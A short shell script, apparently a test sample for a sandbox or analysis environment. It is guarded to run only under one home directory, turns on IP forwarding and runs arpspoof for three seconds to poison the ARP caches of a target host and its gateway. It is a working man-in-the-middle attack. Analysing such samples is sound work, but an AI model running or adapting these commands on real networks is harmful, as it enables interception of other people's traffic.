#!/bin/sh
# SPDX-License-Identifier: MIT
# Puts itself between two hosts: turns on forwarding and poisons their ARP
# caches (arpspoof by its usual path).
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
echo 1 > /proc/sys/net/ipv4/ip_forward 2>/dev/null
timeout 3 /usr/sbin/arpspoof -i eth0 -t 10.0.0.5 10.0.0.1 2>/dev/null
exit 0
